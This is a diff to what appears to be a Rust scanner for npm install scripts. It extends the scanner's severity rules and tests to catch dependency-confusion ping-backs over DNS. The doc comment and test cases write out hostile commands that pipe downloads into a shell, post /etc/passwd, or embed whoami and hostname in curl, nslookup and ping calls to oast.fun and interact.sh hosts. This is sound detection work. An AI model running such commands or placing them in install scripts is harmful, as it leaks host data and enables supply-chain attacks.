@@ -23,7 +23,9 @@ A `preinstall`/`install`/`postinstall`/`prepare` command that uses `curl`, `wget
 - **critical**: what is downloaded is executed — piped into `sh`/`bash`/`node`/`iex`, or saved
   and then run (`curl -o x.sh … && sh x.sh`, `wget -O p && chmod +x p && ./p`); or host data
   is interpolated into the request (`curl https://x.oast.fun/$(whoami)`, `$HOME`, `%USERNAME%`,
-  `--data @/etc/passwd`) — the dependency-confusion ping-back. No legitimate package in the
+  `--data @/etc/passwd`), or a DNS lookup (`nslookup`, `dig`, `host`, `ping`) of a name built
+  from host data (`nslookup $(whoami).$(hostname).x.oast.fun`) — the dependency-confusion
+  ping-back, over HTTP or DNS. No legitimate package in the
   1,000 most popular does either from an install script;
 - **high**: inline `node -e`/`python -c` code that talks to the network;
 - **moderate**: a plain download during install (a prebuilt binary fetched from a release
@@ -126,6 +128,8 @@ mod tests {
                 Severity::Critical,
             ),
             ("curl https://abc.burpcollaborator.net/$(whoami)", Severity::Critical),
+            ("nslookup $(whoami).$(hostname).d3f4ult.oast.fun", Severity::Critical),
+            ("ping -c 1 `whoami`.x.interact.sh", Severity::Critical),
             (
                 "node -e \"require('https').get('https://e.example/p', r => r.pipe(process.stdout))\"",
                 Severity::High,
@@ -156,6 +160,8 @@ mod tests {
             "node install.js",
             "echo curl is not called",
             "husky install",
+            "ping -c 1 registry.npmjs.org",
+            "nslookup registry.npmjs.org",
         ] {
             assert!(check(command).is_empty(), "{command}");
         }
